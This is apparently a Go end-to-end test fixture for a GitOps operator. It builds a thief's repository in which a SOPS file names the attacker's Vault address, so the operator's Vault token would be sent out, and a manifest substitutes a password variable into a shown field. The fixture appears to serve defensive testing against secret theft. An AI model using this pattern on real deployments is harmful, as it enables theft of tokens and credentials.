package secrettheft_test

import (
	"fmt"

	"github.com/cozystack/gitops-operator/e2e/fixtures"
)

// repositoryOfThief is what a thief commits: an application that shows a variable, and a
// file that is decrypted by a Vault of the thief's, to which the token is sent.
func repositoryOfThief(thief *thiefServer) map[string]string {
	return map[string]string{
		"app/app.yaml":         fixtures.Postgres("app", "1Gi"),
		"substituted/app.yaml": fixtures.Manifest("Postgres", "shown", map[string]any{"password": "${password}"}),
		"vault/app.yaml": fixtures.Postgres("app", "ENC[AES256_GCM,data:AAAA,iv:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=,tag:AAAAAAAAAAAAAAAAAAAAAA==,type:str]") +
			fmt.Sprintf(`sops:
  hc_vault:
  - vault_address: http://%s
    engine_path: transit
    key_name: thief
    created_at: "2026-01-01T00:00:00Z"
    enc: vault:v1:AAAA
  lastmodified: "2026-01-01T00:00:00Z"
  mac: ENC[AES256_GCM,data:AAAA,iv:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=,tag:AAAAAAAAAAAAAAAAAAAAAA==,type:str]
  encrypted_regex: ^size$
  version: 3.9.0
`, thief.plain),
	}
}
